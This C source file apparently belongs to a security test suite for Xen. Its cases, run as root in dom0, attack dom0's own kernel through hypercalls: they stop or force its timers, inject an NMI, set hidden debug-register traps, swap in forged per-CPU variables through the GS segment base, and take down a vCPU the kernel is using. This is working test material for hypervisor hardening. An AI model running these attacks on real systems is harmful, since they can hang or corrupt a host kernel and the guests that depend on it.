// SPDX-License-Identifier: GPL-2.0-only
/*
 * dom0's own virtual CPUs: their timers, interrupts, debug registers and
 * segment bases, and whether they run at all. All of it is the kernel's, which does not expect it to change.
 */
#include "vcpu.h"

#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include <xen/vcpu.h>

#include "../kmem/kmem.h"
#include "../frames/paging.h"

unsigned long interrupts(const char *name)
{
    char line[1024];
    unsigned long sum = 0;
    FILE *file = fopen("/proc/interrupts", "re");

    while ( file && fgets(line, sizeof(line), file) )
    {
        char *count = strchr(line, ':');

        for ( count = count && strstr(line, name) ? count + 1 : NULL; count; )
        {
            char *end;
            unsigned long value = strtoul(count, &end, 10);

            sum += value;
            count = end > count ? end : NULL;
        }
    }

    if ( file )
        fclose(file);
    return sum;
}

static uint64_t now(void)
{
    struct timespec time;

    clock_gettime(CLOCK_MONOTONIC_RAW, &time);
    return (uint64_t)time.tv_sec * 1000000000 + (uint64_t)time.tv_nsec;
}

void spin(uint64_t nanoseconds)
{
    const uint64_t end = now() + nanoseconds;

    while ( now() < end )
        ;
}

/* ---- timers ---- */

static const uint64_t watched = 100 * 1000 * 1000;

static unsigned long ticks(void)
{
    const unsigned long before = interrupts("timer0");

    spin(watched);
    return interrupts("timer0") - before;
}

/*
 * U-STACK-TICK: have the kernel's timer go off all the time.
 *
 * A PV kernel uses a timer that fires once, and leaves Xen's periodic one off.
 * Both raise the same interrupt.
 */
ATTACK("U-STACK-TICK", "start a timer that the kernel never set")
{
    struct vcpu_set_periodic_timer *set = buffer(sizeof(*set));
    unsigned long without = 0, with = 0;
    bool more = false;

    stay_on_cpu(0);
    set->period_ns = 1000 * 1000;
    /* In turns: other work on the machine weighs on both alike. */
    for ( unsigned int turn = 0; turn < 10 && !more; turn++ )
    {
        without += ticks();
        vcpu_op(VCPUOP_set_periodic_timer, 0, set);
        with += ticks();
        vcpu_op(VCPUOP_stop_periodic_timer, 0, NULL);
        more = with >= 100 && with >= without + without / 2 + 30;
    }

    return effect(more, "%lu timer interrupts, and %lu in as long a time",
                  without, with);
}

static enum outcome silence(void (*stop)(void))
{
    unsigned long before = 0, during;

    stay_on_cpu(0);
    for ( unsigned int turn = 0; turn < 10 && before < 3; turn++ )
        before += ticks();
    stop();
    during = ticks();
    hypercall1(__HYPERVISOR_set_timer_op, 1); /* overdue: fires at once */

    if ( before < 3 )
        return cannot_try("the kernel's timer cannot be seen");
    return effect(!during, "%lu timer interrupts, then %lu", before, during);
}

static void stop_by_timer_op(void)
{
    hypercall1(__HYPERVISOR_set_timer_op, 0);
}

/*
 * U-STACK-SILENCE: take the kernel's timer away.
 *
 * The kernel waits for an interrupt that will not come: no time slice ends, no
 * timeout expires, no watchdog looks.
 */
ATTACK_BY("U-STACK-SILENCE", "stop the kernel's timer through set_timer_op",
          silence(stop_by_timer_op))

static void stop_by_vcpu_op(void)
{
    vcpu_op(VCPUOP_stop_singleshot_timer, 0, NULL);
}

/*
 * U-STACK-STOP: the same through vcpu_op.
 */
ATTACK_BY("U-STACK-STOP", "stop the kernel's timer through vcpu_op",
          silence(stop_by_vcpu_op))

/* ---- interrupts ---- */

/*
 * U-STACK-NMI: send the kernel an NMI.
 *
 * It interrupts the kernel where nothing else may, and has the kernel believe
 * that the machine is failing.
 */
ATTACK("U-STACK-NMI", "send the kernel an NMI through vcpu_op")
{
    const unsigned long before = interrupts("NMI:");
    unsigned long taken;

    vcpu_op(VCPUOP_send_nmi, 0, NULL);
    spin(20 * 1000 * 1000);
    taken = interrupts("NMI:") - before;

    return effect(taken, "the kernel took %lu NMIs", taken);
}

/* ---- registers ---- */

static volatile uint64_t watched_word;

/* How long it takes to write to memory, a thousand times. */
static uint64_t time_of_writes(void)
{
    const uint64_t start = now();

    for ( unsigned int i = 0; i < 1000; i++ )
        watched_word = i;
    return now() - start;
}

/*
 * U-STACK-DEBUGREG: set a debug register behind the kernel's back.
 *
 * A trap goes off wherever an attacker chooses, at a kernel address as well:
 * Xen minds only its own. The kernel, which did not set it, takes each trap for
 * a mistake and goes on, so that it shows by the time that it takes.
 */
PV_ATTACK("U-STACK-DEBUGREG", "watch memory with a register of the kernel's",
          "a PVH kernel's debug registers are the processor's")
{
    static const uint64_t write_of_8_bytes = 1UL << 16 | 2UL << 18,
                          enabled = 1UL << 1;
    uint64_t before, during;

    stay_on_cpu(0);
    before = time_of_writes();
    hypercall2(__HYPERVISOR_set_debugreg, 0, &watched_word);
    hypercall2(__HYPERVISOR_set_debugreg, 7, write_of_8_bytes | enabled);
    during = time_of_writes();
    hypercall2(__HYPERVISOR_set_debugreg, 7, 0);
    hypercall2(__HYPERVISOR_set_debugreg, 0, 0);

    return effect(during > 10 * before,
                  "1000 writes to memory take %lu ns, then %lu ns", before,
                  during);
}

/* Where the kernel keeps the number of a CPU among the CPU's own variables. */
static const uint64_t number_offset = 12; /* in pcpu_hot */

/* What the kernel takes for the number of this CPU. */
static int cpu_number(void)
{
    unsigned int number = ~0U;

    syscall(SYS_getcpu, &number, NULL, NULL);
    return (int)number;
}

/* A copy of all per-CPU variables as far as those that the attack is about. */
static uint8_t *copy_per_cpu(uint64_t base, size_t size)
{
    uint8_t *copy = buffer(size);

    return copy && read_kernel(base, copy, size) ? copy : NULL;
}

/*
 * Nothing may happen between one base and the other but what is meant to: no
 * timer, and no allocation of the kernel's.
 */
static void set_base(multicall_entry_t *calls, uint64_t base, uint64_t timeout)
{
    calls[0] = (multicall_entry_t){ .op = __HYPERVISOR_set_timer_op,
                                    .args = { timeout } };
    calls[1] = (multicall_entry_t){ .op = __HYPERVISOR_set_segment_base,
                                    .args = { SEGBASE_GS_KERNEL, base } };
    hypercall2(__HYPERVISOR_multicall, calls, 2);
}

/*
 * U-STACK-GSBASE: give the kernel per-CPU variables of root's own.
 *
 * The kernel finds them, the current process and its stack among them, relative
 * to a segment base, and set_segment_base sets it. Here they are a copy in this
 * program's memory, true in all but the number of the CPU, which the kernel
 * then believes.
 */
PV_ATTACK("U-STACK-GSBASE",
          "have the kernel use per-CPU variables of root's own",
          "a PVH kernel's segment bases are the processor's")
{
    static const uint32_t other = 1;
    static const size_t size = 512 * 1024;
    const uint64_t hot = kernel_symbol("pcpu_hot"),
                   base = per_cpu("pcpu_hot", 0);
    multicall_entry_t *calls = buffer(2 * sizeof(*calls));
    uint8_t *copy;
    int number;

    if ( !base || hot + PAGE_SIZE > size )
        return cannot_try("no per-CPU variables to be found");

    stay_on_cpu(0);
    mlockall(MCL_CURRENT);
    copy = copy_per_cpu(base - hot, size);
    if ( !copy || *(uint32_t *)(copy + hot + number_offset) )
        return cannot_try("no CPU number where one is sought");

    memcpy(copy + hot + number_offset, &other, sizeof(other));
    set_base(calls, (uintptr_t)copy, 0);
    number = cpu_number();
    set_base(calls, base - hot, 1);

    return effect(number == (int)other, "the kernel takes CPU 0 for CPU %d",
                  number);
}

/* ---- other vCPUs ---- */

/* A process that counts on another CPU, for as long as that CPU runs. */
static pid_t count_on_cpu(unsigned int cpu, volatile uint64_t *counter)
{
    const pid_t child = fork();

    if ( child )
        return child;

    stay_on_cpu(cpu);
    for ( ;; )
        ++*counter;
}

/*
 * U-STACK-DOWN: take a CPU down while the kernel uses it.
 *
 * vcpu_op stops any vCPU of the caller's. The kernel still waits for whatever
 * it was doing, with the locks it held.
 */
ATTACK("U-STACK-DOWN", "stop another vCPU that the kernel uses")
{
    volatile uint64_t *counter = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
                                      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    const unsigned int other = other_vcpu();
    uint64_t before, after;
    pid_t child;

    if ( !other )
        return not_applicable("this dom0 has one vCPU only");

    child = count_on_cpu(other, counter);
    for ( unsigned int i = 0; i < 100 && !*counter; i++ )
        spin(10 * 1000 * 1000);

    vcpu_op(VCPUOP_down, other, NULL);
    spin(10 * 1000 * 1000);
    before = *counter;
    spin(100 * 1000 * 1000);
    after = *counter;
    vcpu_op(VCPUOP_up, other, NULL);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);

    if ( !before )
        return cannot_try("nothing ran on the other CPU");
    return effect_either(before == after, "the other CPU", "stood still",
                         "ran on");
}
